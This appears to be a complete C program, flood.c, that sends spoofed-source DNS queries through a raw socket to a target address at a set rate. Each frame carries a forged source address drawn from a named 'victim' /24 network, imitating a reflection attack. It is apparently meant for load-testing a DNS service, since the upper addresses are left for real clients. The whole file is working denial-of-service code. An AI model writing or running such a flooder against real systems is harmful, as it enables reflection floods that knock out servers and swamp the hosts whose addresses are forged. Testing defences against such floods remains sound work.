// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * flood.c: questions in the name of a whole network, as a reflection attack sends them.
 *
 *   flood DEVICE TO-MAC VIP VICTIM-NETWORK/24 QUERY-HEX RATE SECONDS
 *
 * Sources are 1 to 63 of the network, so that 64 and more can be somebody who is really there;
 * ports are any. Prints how many frames and bytes were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH	  32
#define QUERY_MAX 512
#define SOURCES	  63

struct frame {
	struct ether_header eth;
	struct iphdr ip;
	struct udphdr udp;
	unsigned char query[QUERY_MAX];
} __attribute__((packed));

static struct frame frames[BATCH];
static struct iovec vectors[BATCH];
static struct mmsghdr messages[BATCH];

static size_t read_hex(unsigned char *to, const char *hex)
{
	size_t len = 0;

	for (; len < QUERY_MAX && sscanf(hex, "%2hhx", &to[len]) == 1; hex += 2)
		len++;
	return len;
}

static __be16 ip_sum(const unsigned char *p)
{
	unsigned int sum = 0, i;

	for (i = 0; i < sizeof(struct iphdr); i += 2)
		sum += p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static int open_device(const char *name)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(name) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		return -1;
	return fd;
}

static size_t prepare(char **args)
{
	struct frame first = {
		.ip = { .version = 4, .ihl = 5, .ttl = 60, .protocol = IPPROTO_UDP }
	};
	size_t query = read_hex(first.query, args[5]), len = offsetof(struct frame, query) + query;
	int i;

	ether_aton_r(args[2], (struct ether_addr *)first.eth.ether_dhost);
	first.eth.ether_type = htons(ETHERTYPE_IP);
	first.ip.tot_len = htons(len - sizeof(first.eth));
	first.ip.daddr = inet_addr(args[3]);
	first.udp.dest = htons(53);
	first.udp.len = htons(sizeof(first.udp) + query);
	for (i = 0; i < BATCH; i++) {
		frames[i] = first;
		vectors[i] = (struct iovec){ &frames[i], len };
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	return len;
}

/* Each frame in another client's name; without a UDP checksum, which IPv4 allows. */
static void forge(in_addr_t network)
{
	int i;

	for (i = 0; i < BATCH; i++) {
		frames[i].ip.saddr = htonl(network + 1 + random() % SOURCES);
		frames[i].ip.check = 0;
		frames[i].ip.check =
			ip_sum((unsigned char *)&frames[i] + sizeof(struct ether_header));
		frames[i].udp.source = htons(1024 + random() % 60000);
		frames[i].query[0] = random();
		frames[i].query[1] = random();
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	double began = now(), rate, seconds;
	unsigned long sent = 0;
	in_addr_t network;
	size_t len;
	int fd, taken;

	if (argc != 8)
		return 2;
	fd = open_device(argv[1]);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	len = prepare(argv);
	network = ntohl(inet_addr(strtok(argv[4], "/")));
	rate = atof(argv[6]);
	seconds = atof(argv[7]);
	while (now() - began < seconds) {
		if (sent > (now() - began) * rate) {
			usleep(500);
			continue;
		}
		forge(network);
		taken = sendmmsg(fd, messages, BATCH, 0);
		if (taken < 0 && errno != ENOBUFS) { /* the ring is full: a moment later */
			perror(argv[1]);
			return 1;
		}
		sent += taken > 0 ? taken : 0;
	}
	printf("%lu %zu\n", sent, sent * len);
	return 0;
}
